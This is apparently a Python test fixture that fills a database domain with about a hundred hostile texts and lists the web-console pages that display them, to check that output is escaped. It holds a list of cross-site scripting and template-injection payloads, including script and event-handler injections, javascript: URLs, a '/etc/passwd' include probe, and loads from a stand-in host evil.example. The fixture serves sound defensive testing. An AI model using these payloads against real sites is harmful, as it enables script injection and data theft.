"""A hundred texts that would do harm if a page took them for markup, and a domain full of them."""

from __future__ import annotations

from typing import Any

from re2llm.knowledge.domains import find_domain
from re2llm.knowledge.hint_store.hints import list_hints
from re2llm.operations.loading.load import load_domain
from re2llm.records import Item, Session
from re2llm.runtime.services import Services
from sqlalchemy import text

MARK = "window.hacked=1"
_BODIES = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<style>@import '//evil.example/x.css';</style>{}",
    "<div style=background:url(javascript:{})>",
    "<div hx-get=/console/sign-out hx-trigger=load hx-on::load={}>",
    "<div hx-on:click={} data-hx-on:load={}>",
    "{{{{ ''.__class__.__mro__ }}}} {}",
    "{{% include '/etc/passwd' %}} {}",
    "${{{}}}",
    "<%= {} %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "<scr<script>ipt>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{}",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<template><script>{}</script></template>",
    "<marquee onstart={}>",
    "<!--<img src='--><img src=x onerror={}>'>",
    "`-alert(1)-`{}",
)
HOSTILE = [
    *(body.format(*[MARK] * body.count("{}")) for body in _BODIES),
    *(f"\u202e{body.format(*[MARK] * body.count('{}'))}\u202c" for body in _BODIES[:30]),
    *("مرحبا بالعالم " + body.format(*[MARK] * body.count("{}")) for body in _BODIES[:15]),
    "x" * 1_500,
    "שלום " * 100,
    "a\u0301" * 200,
    "👩‍👩‍👧‍👦" * 50,
    "\u200b\u200d\ufeff invisible",
]


async def hostile_domain(services: Services, name: str) -> dict[str, Any]:
    """Load a domain whose every text is hostile; return the pages that show them."""
    items = [
        Item(f"h{n}" if n % 2 else body[:400], body, {"maker": body[:200], body[:60]: "x"})
        for n, body in enumerate(HOSTILE)
    ]
    ids = [item.id for item in items]
    sessions = [Session((ids[n], ids[n + 1]), ids[n + 2]) for n in range(len(ids) - 2)]
    await load_domain(services, name, items, [lambda _: sessions])
    async with services.engine.begin() as connection:
        found = await find_domain(connection, name)
        for n, body in enumerate(HOSTILE):
            given = {"domain": found.id, "text": body[:500], "n": str(n)}
            await connection.execute(text(_HINT), given)
        await connection.execute(text(_STORY), {"domain": found.id, "text": HOSTILE[0]})
        await connection.execute(
            text(_JOB), {"domain": found.id, "text": HOSTILE[6], "id": "job-1"}
        )
        hints = [hint.id for hint in await list_hints(connection, found.id)]
    pages: list[tuple[str, dict[str, Any]]] = [
        ("/console", {}),
        *(("/console/hints", {"page": page}) for page in (1, 2, 3)),
        *((f"/console/hints/{hint}", {}) for hint in hints[:3]),
        *(("/console/catalogue", {"page": page}) for page in (1, 2, 3)),
        *((f"/console/catalogue/h{n}", {}) for n in (1, 51, 99)),
        *(
            ("/console/try", {"history": ids[n : n + 20], "candidates": ids[n + 20 : n + 40]})
            for n in (0, 40)
        ),
        ("/console/try", {"history": ids[:5], "words": HOSTILE[6]}),
        ("/console/jobs", {}),
        ("/console/jobs/job-1", {}),
        ("/console/releases", {}),
        ("/console/costs", {}),
    ]
    return {"pages": pages, "ids": ids, "hints": hints}


_HINT = """
    INSERT INTO re2llm.hint (domain_id, key, text, embedding, status, provenance)
    VALUES (:domain, sha256(CAST(:n AS text)::bytea), :text,
        array_fill(0.1::real, ARRAY[384])::vector, 'active',
        jsonb_build_object('source', CAST(:text AS text), CAST(:text AS text), 'x'))
    ON CONFLICT DO NOTHING
"""
_STORY = """
    WITH made AS (
        INSERT INTO re2llm.reflection (domain_id, session_id, model, prompt_version, rank,
            diagnosis, messages)
        SELECT :domain, min(id), :text, 'v', 7, :text, jsonb_build_array(jsonb_build_object(
            'role', CAST(:text AS text), 'content', CAST(:text AS text)))
        FROM re2llm.session WHERE domain_id = :domain RETURNING id
    ) INSERT INTO re2llm.hint_proposal (domain_id, reflection_id, text, outcome, reason, hint_id,
        verification)
    SELECT :domain, made.id, :text, 'stored', :text, (SELECT min(id) FROM re2llm.hint
        WHERE domain_id = :domain), jsonb_build_object('mean', CAST(:text AS text)) FROM made
"""
_JOB = """
    INSERT INTO re2llm.job (id, domain_id, kind, arguments, version, state, reason, result)
    VALUES (:id, :domain, 'verify', jsonb_build_object('x', CAST(:text AS text)), 'v', 'failed',
        :text, jsonb_build_object(CAST(:text AS text), CAST(:text AS text)))
    ON CONFLICT DO NOTHING
"""
